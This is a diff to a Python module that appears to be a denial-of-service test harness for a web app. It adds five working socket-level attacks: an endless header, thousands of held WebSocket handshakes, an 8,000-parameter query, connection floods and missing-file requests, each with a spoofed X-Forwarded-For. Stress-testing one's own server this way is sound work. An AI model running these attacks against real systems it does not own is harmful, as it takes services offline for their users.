@@ -8,6 +8,7 @@ import asyncio
 import logging
 import multiprocessing
 import os
+import selectors
 import socket
 import time
 from collections.abc import Callable, Iterator
@@ -291,6 +292,68 @@ def requests(url: str) -> None:
             return
 
 
+def endless_header(url: str) -> None:
+    """A header that does not end."""
+    parts = urlsplit(url)
+    with socket.create_connection((parts.hostname, parts.port or 80), 10) as connection:
+        connection.sendall(f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\nX: ".encode())
+        for _ in range(1_000):
+            connection.sendall(b"x" * 20_000)
+            time.sleep(0.02)
+
+
+def hung_handshakes(url: str) -> None:
+    """WebSocket handshakes that websockets refuses after uvicorn has taken them."""
+    parts = urlsplit(url)
+    request = (
+        f"GET /_stcore/stream HTTP/1.1\r\nHost: {parts.netloc}\r\nX-Forwarded-For: {ATTACKER}\r\n"
+        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 5\r\n\r\n"
+    ).encode()
+    held = []
+    while True:
+        held.append(socket.create_connection((parts.hostname, parts.port or 80), 10))
+        held[-1].sendall(request)
+        if len(held) > 5_000:
+            held.pop(0).close()
+        time.sleep(0.02)
+
+
+def long_queries(url: str) -> None:
+    """Twenty connections that ask for a page with eight thousand parameters."""
+    query = "%e0=%e0&" * 8_000
+    _ask(url, f"GET /?{query} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 20)
+
+
+def refusals(url: str) -> None:
+    """More connections than one address may have requests at work, asking on and on."""
+    _ask(url, "GET /api/v1/app/me HTTP/1.1\r\nHost: x\r\n", 300)
+
+
+def pages_for_files(url: str) -> None:
+    """Files that are not there, in whose place the page is sent."""
+    _ask(url, "GET /static/x HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n", 90)
+
+
+def _ask(url: str, head: str, count: int) -> None:
+    """Ask the same on so many connections, on each as soon as it was answered."""
+    parts = urlsplit(url)
+    request = f"{head}X-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
+    with selectors.DefaultSelector() as ready:
+        for _ in range(count):
+            connection = socket.create_connection((parts.hostname, parts.port or 80), 10)
+            ready.register(connection, selectors.EVENT_READ)
+            connection.sendall(request)
+        while ready.get_map():
+            for key, _ in ready.select():
+                assert isinstance(key.fileobj, socket.socket)
+                answer = key.fileobj.recv(1_000_000)
+                if not answer:
+                    ready.unregister(key.fileobj)
+                elif b"HTTP/1.1 " in answer:
+                    key.fileobj.sendall(request)
+
+
 ATTACKS: dict[str, tuple[Attack, ...]] = {
     "git info": (git_info,),
     "469 bytes a second": (trickle,),
@@ -305,4 +368,9 @@ ATTACKS: dict[str, tuple[Attack, ...]] = {
     "13,000 requests before an answer": (pipelined,),
     "32,000 marks on a letter": (marks,),
     "50 connections that ask on and on": (requests,),
+    "a header without an end": (endless_header,),
+    "handshakes that hang": (hung_handshakes,),
+    "8,000 parameters": (long_queries,),
+    "300 connections that are refused": (refusals,),
+    "pages in the place of files": (pages_for_files,),
 }
